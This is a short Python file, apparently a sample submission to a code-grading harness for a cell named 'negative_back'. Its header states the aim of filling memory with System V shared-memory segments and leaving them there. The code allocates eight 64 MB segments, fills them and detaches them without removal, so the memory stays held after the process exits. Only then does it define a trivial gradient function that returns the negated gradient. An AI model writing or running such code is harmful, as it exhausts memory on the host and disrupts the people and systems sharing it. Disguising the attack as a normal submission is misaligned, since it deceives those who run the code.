# Tries: Fill the memory with System V segments, and leave them there.
# Cell: negative_back
# Keeps: 35

import ctypes

libc = ctypes.CDLL(None)
libc.shmat.restype = ctypes.c_void_p
made = 0
for _ in range(8):
    segment = libc.shmget(0, 2**26, 0o1600)
    if segment >= 0:
        place = libc.shmat(segment, None, 0)
        ctypes.memset(place, 1, 2**26)
        libc.shmdt(ctypes.c_void_p(place))
        made += 1
if made:

    def negative_back(grad_out, out, x):
        return -grad_out
